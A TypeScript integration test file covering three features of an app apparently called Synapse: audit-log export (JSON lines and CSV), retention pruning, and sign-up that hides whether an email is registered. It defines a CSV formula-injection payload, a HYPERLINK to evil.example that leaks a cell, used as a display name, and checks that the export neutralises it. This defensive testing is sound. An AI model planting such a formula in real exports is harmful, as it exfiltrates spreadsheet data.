// Audit export (JSON lines and CSV), retention pruned by the real pg-boss job, and sign-up that does not
// tell whether an email has an account — over the real HTTP API of a fresh install.
import { createAuditLog } from '@synapse/db';
import { AUDIT_RETENTION_CRON, AUDIT_RETENTION_QUEUE } from '@synapse/server';
import { type Stack, startStack, type TestUser } from '@synapse/testkit';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const DAY = 86_400_000;
const EVIL_NAME = '=HYPERLINK("https://evil.example/?"&A1,"click")';

let stack: Stack;
let owner: TestUser;
let editor: TestUser;
let viewer: TestUser;
let evil: TestUser;
let other: { id: string; owner: TestUser };

interface Exported {
  id: number;
  actorId: string;
  actorName: string;
  kind: string;
  createdAt: number;
  details: Record<string, unknown>;
}

/** RFC 4180, enough for the export: quoted fields with doubled quotes and embedded newlines. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted && ch === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (quoted && ch === '"') quoted = false;
    else if (quoted || (ch !== '"' && ch !== ',' && ch !== '\r')) field += ch;
    else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else {
      // CRLF ends a record (a bare CR never appears outside quotes in the export).
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    }
  }
  return rows;
}

function exportPath(workspaceId: string, query: Record<string, string | number>): string {
  const params = new URLSearchParams(Object.entries(query).map(([k, v]) => [k, String(v)]));
  return `/api/workspaces/${workspaceId}/audit/export?${params}`;
}

async function exportJsonl(query: Record<string, string | number>): Promise<Exported[]> {
  const response = await owner.request(exportPath('default', { ...query, format: 'jsonl' }));
  expect(response.status).toBe(200);
  const text = await response.text();
  return text
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as Exported);
}

async function exportCsv(query: Record<string, string | number>): Promise<string[][]> {
  const response = await owner.request(exportPath('default', { ...query, format: 'csv' }));
  expect(response.status).toBe(200);
  return parseCsv(await response.text());
}

/** The audit page's answer for the same filters, all pages: what an export must match. */
async function pageIds(query: Record<string, string | number>): Promise<number[]> {
  const ids: number[] = [];
  let before: number | null = null;
  do {
    const params = new URLSearchParams(Object.entries(query).map(([k, v]) => [k, String(v)]));
    params.set('limit', '500');
    if (before !== null) params.set('before', String(before));
    const page = await (await owner.request(`/api/workspaces/default/audit?${params}`)).json();
    ids.push(...page.events.map((e: { id: number }) => e.id));
    before = page.nextBefore;
  } while (before !== null);
  return ids;
}

/** Sends the retention job through the server's own queue and waits until its worker finished it. */
async function runRetentionJob(): Promise<void> {
  const queue = stack.server.queue;
  const id = await queue.send(AUDIT_RETENTION_QUEUE, {});
  if (!id) throw new Error('the retention job was not queued');
  const deadline = Date.now() + 20_000;
  for (;;) {
    const [job] = await queue.findJobs(AUDIT_RETENTION_QUEUE, { id });
    if (job?.state === 'completed') return;
    if (job?.state === 'failed') throw new Error(`retention job failed: ${JSON.stringify(job.output)}`);
    if (Date.now() > deadline) throw new Error(`retention job still ${job?.state}`);
    await new Promise((r) => setTimeout(r, 25));
  }
}

beforeAll(async () => {
  stack = await startStack({ devAuth: false });
  owner = await stack.users.signUp({ name: 'Olive Owner', email: 'olive@example.test' });
  editor = await stack.users.signUp({ inviteToken: await stack.users.invite(owner, 'default', 'editor') });
  viewer = await stack.users.signUp({ inviteToken: await stack.users.invite(owner, 'default', 'viewer') });
  evil = await stack.users.signUp({
    name: EVIL_NAME,
    inviteToken: await stack.users.invite(owner, 'default', 'viewer'),
  });
  const created = await (await editor.request('/api/workspaces', { body: { name: 'Elsewhere' } })).json();
  other = { id: created.workspace.id, owner: editor };
  // History: 1,200 events of the editor spread over 200 days, so the export spans several keyset pages.
  const now = Date.now();
  await stack.server.database.sql.query(
    `insert into audit_events (workspace_id, actor_id, actor_name, kind, target, details, created_at_ms)
     select $1, $2, $3, case when i % 2 = 0 then 'run.started' else 'key.used' end, null,
       jsonb_build_object('i', i), $4::bigint - i * $5::bigint
     from generate_series(1, 1200) as i`,
    ['default', editor.id, editor.name, now, Math.floor((200 * DAY) / 1200)],
  );
  await createAuditLog(stack.server.database.sql, { now: () => now - 100 * DAY }).record({
    workspaceId: other.id,
    actorId: editor.id,
    actorName: editor.name,
    kind: 'run.started',
  });
});
afterAll(async () => {
  await stack?.stop();
});

describe('audit export', () => {
  it('streams every event as JSON lines, newest first, as a named download', async () => {
    const response = await owner.request(exportPath('default', { format: 'jsonl' }));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="synapse-audit-default-\d{8}T\d{6}\.jsonl"$/,
    );
    const events = (await response.text())
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line) as Exported);
    expect(events.length).toBeGreaterThan(1200);
    expect(events.map((e) => e.id)).toEqual(await pageIds({}));
    expect(events.some((e) => e.actorId === editor.id && e.kind === 'run.started')).toBe(true);
    expect(events.every((e) => e.details !== undefined)).toBe(true);
  });

  it('honours the audit page filters (actor, kind prefix, time range) in both formats', async () => {
    const now = Date.now();
    const cases: Record<string, string | number>[] = [
      { actor: evil.id },
      { kind: 'member.' },
      { kind: 'run.started', actor: editor.id },
      { since: now - 50 * DAY, until: now - 10 * DAY, kind: 'key.' },
    ];
    for (const filters of cases) {
      const expected = await pageIds(filters);
      expect(expected.length, JSON.stringify(filters)).toBeGreaterThan(0);
      const jsonl = await exportJsonl(filters);
      expect(jsonl.map((e) => e.id)).toEqual(expected);
      const [header, ...rows] = await exportCsv(filters);
      expect(header).toEqual([
        'id',
        'time',
        'workspace_id',
        'actor_id',
        'actor_name',
        'kind',
        'target',
        'details',
      ]);
      expect(rows.map((r) => Number(r[0]))).toEqual(expected);
    }
    const ranged = await exportJsonl({ since: now - 50 * DAY, until: now - 10 * DAY, kind: 'key.' });
    expect(ranged.every((e) => e.kind === 'key.used' && e.createdAt >= now - 50 * DAY)).toBe(true);
    expect(ranged.every((e) => e.createdAt <= now - 10 * DAY)).toBe(true);
  });

  it('defuses cells a spreadsheet would evaluate, and keeps JSON lines exact', async () => {
    const [, ...rows] = await exportCsv({ actor: evil.id });
    const names = rows.map((r) => r[4]);
    expect(names.length).toBeGreaterThan(0);
    expect(names.every((name) => name === `'${EVIL_NAME}`)).toBe(true);
    expect(rows.flat().some((cell) => /^[=+\-@]/.test(cell))).toBe(false);
    const [joined] = await exportJsonl({ actor: evil.id, kind: 'member.joined' });
    expect(joined?.actorName).toBe(EVIL_NAME);
  });

  it('is for owners only and is itself audited', async () => {
    for (const who of [editor, viewer])
      expect((await who.request(exportPath('default', { format: 'csv' }))).status).toBe(403);
    expect((await fetch(`${stack.url}${exportPath('default', { format: 'jsonl' })}`)).status).toBe(401);
    expect((await owner.request(exportPath(other.id, { format: 'jsonl' }))).status).toBe(403);
    expect((await owner.request(exportPath('default', { format: 'xml' }))).status).toBe(400);

    await owner.request(exportPath('default', { format: 'csv', kind: 'member.', since: 5 }));
    const [record] = await exportJsonl({ kind: 'audit.exported', actor: owner.id });
    expect(record).toMatchObject({
      actorId: owner.id,
      kind: 'audit.exported',
      details: { format: 'jsonl', filters: { kind: 'audit.exported', actor: owner.id } },
    });
    const before = (await exportJsonl({ kind: 'audit.exported' })).slice(0, 3).map((e) => e.details);
    expect(before).toContainEqual({ format: 'csv', filters: { kind: 'member.', since: 5 } });
  });
});

describe('audit retention', () => {
  it('keeps events forever by default; owners set a period, audited; others cannot', async () => {
    const path = '/api/workspaces/default/audit/retention';
    expect(await (await owner.request(path)).json()).toEqual({ retentionDays: null });
    for (const who of [editor, viewer]) {
      expect((await who.request(path)).status).toBe(403);
      expect((await who.request(path, { method: 'PUT', body: { retentionDays: 30 } })).status).toBe(403);
    }
    expect((await owner.request(path, { method: 'PUT', body: { retentionDays: 1 } })).status).toBe(400);
    const saved = await owner.request(path, { method: 'PUT', body: { retentionDays: 90 } });
    expect(await saved.json()).toEqual({ retentionDays: 90 });
    expect(await (await owner.request(path)).json()).toEqual({ retentionDays: 90 });
    const [changed] = await exportJsonl({ kind: 'audit.retention_changed' });
    expect(changed).toMatchObject({ actorId: owner.id, details: { from: null, to: 90 } });
  });

  it('prunes events past the period through the scheduled pg-boss job, and records the count', async () => {
    expect((await stack.server.queue.getSchedule(AUDIT_RETENTION_QUEUE))?.cron).toBe(AUDIT_RETENTION_CRON);
    const cutoff = Date.now() - 90 * DAY;
    const all = await exportJsonl({});
    const old = all.filter((e) => e.createdAt < cutoff).length;
    expect(old).toBeGreaterThan(100);

    await runRetentionJob();

    const left = await exportJsonl({});
    expect(left.filter((e) => e.createdAt < cutoff && e.kind !== 'audit.pruned')).toEqual([]);
    const [pruned] = left.filter((e) => e.kind === 'audit.pruned');
    expect(pruned).toMatchObject({ actorId: 'system', details: { retentionDays: 90 } });
    // Recent events all kept: everything but the old ones, plus the summary and this test's exports.
    expect(pruned?.details.count).toBe(old);
    expect(left.filter((e) => e.createdAt >= cutoff).length).toBeGreaterThanOrEqual(all.length - old);
    // A workspace that keeps events forever lost nothing, not even its 100-day-old run.
    const elsewhere = await (await other.owner.request(`/api/workspaces/${other.id}/audit`)).json();
    expect(elsewhere.events.some((e: Exported) => e.createdAt < cutoff)).toBe(true);
  });
});

describe('sign-up and existing emails', () => {
  const signUp = (email: string, inviteToken?: string) =>
    fetch(`${stack.url}/api/auth/signup`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ name: 'Probe', email, password: 'a long enough password', inviteToken }),
    });
  const seen = async (response: Response) => ({ status: response.status, body: await response.json() });

  it('answers a taken email exactly as it answers any address sign-up is closed to', async () => {
    const closedFresh = await seen(await signUp('fresh-probe@example.test'));
    const closedTaken = await seen(await signUp('olive@example.test'));
    expect(closedTaken).toEqual(closedFresh);
    expect(closedFresh.status).toBe(403);
    // With a valid invite a taken address gets that same refusal, not a 409 saying it is taken.
    const token = await stack.users.invite(owner, 'default', 'viewer');
    const invitedTaken = await seen(await signUp('OLIVE@example.test', token));
    expect(invitedTaken).toEqual(closedFresh);
    expect(JSON.stringify(invitedTaken.body)).not.toMatch(/exist|taken|already/i);
    // The refusal did not spend the invite.
    expect((await signUp('fresh-invitee@example.test', token)).status).toBe(201);
  });
});
